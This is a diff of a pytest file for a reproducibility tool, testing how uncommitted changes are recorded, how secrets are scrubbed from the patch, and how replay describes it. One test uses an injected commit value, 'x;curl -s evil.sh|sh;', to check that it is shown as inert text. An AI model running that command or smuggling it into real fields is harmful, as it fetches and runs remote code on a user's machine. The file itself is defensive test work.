@@ -2,10 +2,10 @@
 
 from __future__ import annotations
 
-import dataclasses
 import os
 from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -18,9 +18,9 @@ from rlk_repro.probes.checkout import probe_checkout
 from rlk_repro.replay.recorded import describe_own_patch
 from rlk_repro.rundir.manifest import Manifest, Unknown
 from rlk_repro.rundir.paths import RunDir
-from tests.security.hostile import pack_stranger, write_program
+from tests.security.hostile import pack_stranger
+from tests.support.probe_examples import commit_files, git, write_program
 
-AUTHOR = ("-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "commit.gpgsign=false")
 # Every setting of git that names a program, by section.
 PROGRAMS = {
     'filter "evil"': ("clean", "smudge", "process"),
@@ -53,20 +53,9 @@ OTHERS = """
 """
 
 
-def git(folder: Path, *words: str) -> str:
-    done = proc.run(["git", *AUTHOR, *words], cwd=folder)
-    assert done.is_ok, done.stderr
-    return done.stdout.strip()
-
-
 def make_checkout(folder: Path) -> Path:
     """Make a clean checkout with a package of vime's name."""
-    (folder / "vime").mkdir(parents=True)
-    (folder / "vime" / "__init__.py").write_text("x = 1\n")
-    (folder / ".gitignore").write_text("*.so\n")
-    git(folder, "init", "-q")
-    git(folder, "add", ".")
-    git(folder, "commit", "-q", "-m", "all")
+    commit_files(folder, {"vime/__init__.py": "x = 1\n", ".gitignore": "*.so\n"})
     return folder
 
 
@@ -181,76 +170,48 @@ PATCH = b"diff --git a/rlk_repro/x.py b/rlk_repro/x.py\n+a = 1\n"
 TOKEN = "hf_" + "Zz9" * 9
 
 
-def make_manifest(*, is_dirty: bool) -> Manifest:
-    return Manifest(node="a", sections={"code": {"rlk_repro": {"commit": COMMIT, "is_dirty": is_dirty}}})
-
-
 def record(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, patch: bytes | Unknown, untracked: list[str] | None = None
-) -> tuple[Manifest, RunDir]:
-    run_dir = RunDir(tmp_path)
-    made = patch if isinstance(patch, Unknown) else (patch, untracked or [])
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, patch: bytes | Unknown, untracked: list[str]
+) -> tuple[dict[str, Any], list[str], RunDir]:
+    """Return the facts of rlk-repro, what replay says of them, and the run directory."""
+    manifest = Manifest(node="a", sections={"code": {"rlk_repro": {"commit": COMMIT, "is_dirty": True}}})
+    made = patch if isinstance(patch, Unknown) else (patch, untracked)
     monkeypatch.setattr(own_patch, "make_patch", lambda *_: made)
-    return with_own_patch(make_manifest(is_dirty=True), run_dir.own_patch, Scrubber()), run_dir
+    run_dir = RunDir(tmp_path)
+    manifest = with_own_patch(manifest, run_dir.own_patch, Scrubber())
+    own: Any = manifest.sections["code"]["rlk_repro"]
+    return own, describe_own_patch(Path("my b.tgz"), [manifest]), run_dir
 
 
-def read_fact(manifest: Manifest) -> object:
-    own = manifest.sections["code"]["rlk_repro"]
-    assert isinstance(own, dict)
-    return own["patch"]
-
-
-def test_a_clean_checkout_has_no_patch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(own_patch, "make_patch", None)
-    manifest, run_dir = make_manifest(is_dirty=False), RunDir(tmp_path)
-    assert with_own_patch(manifest, run_dir.own_patch, Scrubber()) is manifest
-    assert not run_dir.own_patch.exists()
-    assert describe_own_patch(Path("b.tgz"), [manifest]) == []
-
-
-def test_changes_are_kept_and_replay_names_their_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    manifest, run_dir = record(tmp_path, monkeypatch, PATCH)
-    assert read_fact(manifest) == "whole"
-    assert run_dir.own_patch.read_bytes() == PATCH
+@pytest.mark.parametrize(
+    ("patch", "untracked", "fact", "told"),
+    [
+        (PATCH, [], "whole", []),
+        (PATCH + f'+token = "{TOKEN}"\n'.encode(), [], "without secrets", ["  secrets were removed from this patch"]),
+        (PATCH, ["k8s/x"], "whole, which lacks files outside the commit: k8s/x",
+         ["  which lacks files outside the commit: k8s/x"]),
+    ],
+)  # fmt: skip
+def test_changes_are_kept_and_replay_names_their_file(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, patch: bytes, untracked: list[str], fact: str, told: list[str]
+) -> None:
+    own, (first, *rest), run_dir = record(tmp_path, monkeypatch, patch, untracked)
+    assert own["patch"] == fact
     assert run_dir.is_packed(run_dir.own_patch.name)
-    (line,) = describe_own_patch(Path("my b.tgz"), [manifest])
-    assert line == (
+    assert run_dir.own_patch.read_bytes().startswith(PATCH)
+    assert TOKEN.encode() not in run_dir.own_patch.read_bytes()
+    assert first == (
         f"rlk-repro had uncommitted changes to commit {COMMIT}; rlk-repro.patch in my b.tgz holds them: "
         "code of the bundle's author, to be read before it is applied"
     )
-
-
-def test_text_of_a_stranger_is_no_part_of_a_command(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    manifest, _ = record(tmp_path, monkeypatch, PATCH)
-    own = manifest.sections["code"]["rlk_repro"]
-    assert isinstance(own, dict)
-    evil = dataclasses.replace(manifest, sections={"code": {"rlk_repro": {**own, "commit": "x;curl -s evil.sh|sh;"}}})
-    (line,) = describe_own_patch(Path("b.tgz"), [evil])
-    assert line.endswith("x;curl -s evil.sh|sh;): nothing can restore its code")
-
-
-def test_secrets_are_taken_out_and_that_is_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    manifest, run_dir = record(tmp_path, monkeypatch, PATCH + f'+token = "{TOKEN}"\n'.encode())
-    assert TOKEN.encode() not in run_dir.own_patch.read_bytes()
-    assert read_fact(manifest) == "without secrets"
-    assert describe_own_patch(Path("b.tgz"), [manifest])[1].startswith("  secrets were removed from this patch")
-
-
-def test_files_outside_the_commit_are_named_and_not_kept(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    manifest, _ = record(tmp_path, monkeypatch, PATCH, ["k8s/kubeconfig"])
-    assert read_fact(manifest) == "whole, which lacks files outside the commit: k8s/kubeconfig"
-    lines = describe_own_patch(Path("b.tgz"), [manifest])
-    assert lines[1:] == ["  which lacks files outside the commit: k8s/kubeconfig"]
+    assert [line[: len(words)] for line, words in zip(rest, told, strict=True)] == told
 
 
 @pytest.mark.parametrize(
     ("patch", "reason"),
     [
         (b"x" * (own_patch.MAX_PATCH_BYTES + 1), "the patch is larger than 1 MiB"),
-        (
-            PATCH + b"\nGIT binary patch\nliteral 3\n",
-            "the changes include binary files, which may hide secrets",
-        ),
+        (PATCH + b"\nGIT binary patch\n", "the changes include binary files, which may hide secrets"),
         (b"", "no patch, because no changed file belongs to the package"),
         (Unknown("git is not on PATH"), "git is not on PATH"),
     ],
@@ -258,8 +219,16 @@ def test_files_outside_the_commit_are_named_and_not_kept(tmp_path: Path, monkeyp
 def test_what_is_not_kept_has_a_reason(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, patch: bytes | Unknown, reason: str
 ) -> None:
-    manifest, run_dir = record(tmp_path, monkeypatch, patch)
-    assert read_fact(manifest) == Unknown(reason)
+    own, told, run_dir = record(tmp_path, monkeypatch, patch, [])
+    assert own["patch"] == Unknown(reason)
     assert not run_dir.own_patch.exists()
-    (line,) = describe_own_patch(Path("b.tgz"), [manifest])
-    assert line == f"the bundle lacks rlk-repro's uncommitted changes to commit {COMMIT} ({reason})"
+    assert told == [f"the bundle lacks rlk-repro's uncommitted changes to commit {COMMIT} ({reason})"]
+
+
+def test_a_clean_checkout_has_no_patch_and_no_commit_is_part_of_a_command(tmp_path: Path) -> None:
+    clean = Manifest(node="a", sections={"code": {"rlk_repro": {"commit": COMMIT, "is_dirty": False}}})
+    assert with_own_patch(clean, tmp_path / "patch", Scrubber()) is clean
+    assert describe_own_patch(Path("b.tgz"), [clean]) == []
+    evil = {"commit": "x;curl -s evil.sh|sh;", "is_dirty": True, "patch": "whole"}
+    (line,) = describe_own_patch(Path("b.tgz"), [Manifest(node="a", sections={"code": {"rlk_repro": evil}})])
+    assert line.endswith("x;curl -s evil.sh|sh;): nothing can restore its code")
